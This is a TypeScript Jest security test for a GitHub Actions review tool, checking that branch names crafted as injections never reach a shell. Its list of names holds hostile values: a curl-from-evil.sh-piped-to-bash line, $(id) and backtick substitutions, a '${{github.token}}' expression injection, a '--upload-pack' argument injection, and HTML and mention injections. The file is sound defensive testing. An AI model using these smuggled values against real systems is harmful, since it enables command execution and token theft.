import {
  chmodSync,
  existsSync,
  globSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { git } from '../fakes/pull-request.ts'
import { type Review, startReview } from '../fakes/review.ts'

/** Names that git and GitHub take for a branch. */
const names: readonly string[] = [
  'a;curl${IFS}evil.sh|bash',
  '$(id)',
  '`id`',
  'x"&&id&&"',
  "x'&&id&&'",
  '${{github.token}}',
  '-rf',
  '--upload-pack=id',
  '@everyone',
  '<img/src=x>',
  'a%0Ab',
  '\u202egnp.exe',
]

const projectFiles = {
  'dvc.yaml':
    'stages:\n  train:\n    cmd: cp in.json m.json\n    deps: [in.json]\n    metrics: [{m.json: {cache: false}}]\n',
  'in.json': '{"accuracy": 0.9}',
  'm.json': '{"accuracy": 0.9}',
}

describe('threat 3: branches whose names are commands', () => {
  const folder = mkdtempSync(join(tmpdir(), 'crisol-security-'))
  const called = join(folder, 'called')
  let review: Review
  beforeAll(async () => {
    review = await startReview({
      base: projectFiles,
      head: { 'in.json': '{"accuracy": 0.8}', 'm.json': '{"accuracy": 0.8}' },
    })
    mkdirSync(join(folder, 'bin'))
    for (const program of ['id', 'curl']) {
      writeFileSync(join(folder, 'bin', program), `#!/bin/sh\necho ${program} "$@" >>${called}\n`)
      chmodSync(join(folder, 'bin', program), 0o755)
    }
  })
  afterAll(async () => {
    await review.stop()
    rmSync(folder, { recursive: true })
  })

  it.each(names)('%s is a name for train, collect and report, as head, base and what is checked out', async (name) => {
    const origin = join(review.folder, 'origin.git')
    for (const [ref, sha] of [
      [name, review.headSha],
      [`base/${name}`, review.baseSha],
    ]) {
      git(origin, 'update-ref', `refs/heads/${ref}`, sha ?? '')
    }
    const workspace = join(folder, 'checkout')
    rmSync(workspace, { recursive: true, force: true })
    git(folder, 'clone', '--quiet', `file://${origin}`, workspace)
    git(workspace, 'update-ref', `refs/heads/${name}`, review.headSha)
    git(workspace, 'symbolic-ref', 'HEAD', `refs/heads/${name}`)
    git(workspace, 'reset', '--quiet', '--hard', review.headSha)
    const payload = structuredClone(review.step.payload) as { pull_request: Record<string, Record<string, string>> }
    Object.assign(payload.pull_request['head'] ?? {}, { ref: name, label: `octocat:${name}` })
    Object.assign(payload.pull_request['base'] ?? {}, { ref: `base/${name}`, label: `octocat:base/${name}` })
    const env = {
      ...{ PATH: `${join(folder, 'bin')}:${process.env['PATH']}`, SHELL: '/bin/sh' },
      ...{ GITHUB_HEAD_REF: name, GITHUB_BASE_REF: `base/${name}`, GITHUB_REF_NAME: name, GITHUB_JOB: name },
    }
    const before = readdirSync(folder).sort()
    for (const ref of ['refs/pull/1/merge', `refs/heads/${name}`]) {
      const step = { workspace, payload, env, ref, event: ref.includes('pull') ? 'pull_request' : 'push' }
      const trained = await review.run({ ...step, inputs: { force: 'true' } }, 'train')
      const collected = await review.run({ ...step, inputs: { into: '.crisol/results' } }, 'collect')
      const reported = await review.run({ ...step, sha: review.headSha })
      for (const { stdout, status } of [trained, collected, reported]) {
        expect([status, stdout.includes('Unexpected failure')]).toEqual([0, false])
      }
      expect(reported.outputs['verdict']).toMatch(/^(?:pass|warn|neutral)$/u)
    }
    expect([existsSync(called) ? readFileSync(called, 'utf8') : '', readdirSync(folder).sort()]).toEqual(['', before])
    const [comment] = review.github.state.comments
    expect(comment?.body ?? '').not.toMatch(/<img\/|@everyone|\u202e/u)
  })

  it('never reach a shell by an expression: no run of our workflows and actions holds one', () => {
    const root = join(import.meta.dirname, '../..')
    const files = globSync('{action.yml,{.github/,}actions/*/action.yml,.github/workflows/*.yml}', { cwd: root })
    const shells = files.flatMap((file) => {
      const text = readFileSync(join(root, file), 'utf8')
      return [...text.matchAll(/^(?<indent>\s*)(?:- )?run: (?<first>.*\n(?:\k<indent>\s{2,}.*\n)*)/gmu)].map(
        ({ groups }) => [file, groups?.['first'] ?? ''] as const,
      )
    })
    expect(shells.length).toBeGreaterThan(3)
    expect(shells.filter(([, shell]) => shell.includes('${{'))).toEqual([])
  })
})
